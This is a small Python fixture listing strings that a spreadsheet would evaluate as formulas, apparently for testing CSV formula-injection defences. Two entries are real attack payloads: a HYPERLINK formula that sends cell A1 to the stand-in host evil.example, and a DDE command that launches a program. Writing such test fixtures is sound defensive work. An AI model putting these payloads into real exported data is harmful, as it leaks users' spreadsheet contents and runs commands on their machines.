"""Texts that some spreadsheet program would evaluate as a formula."""

from __future__ import annotations

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "＝1",
    "x,=1",
    "x;=1",
    "x, @A1",
    '=HYPERLINK("http://evil.example?"&A1;"x")',
    "=cmd|' /C calc'!A0",
]
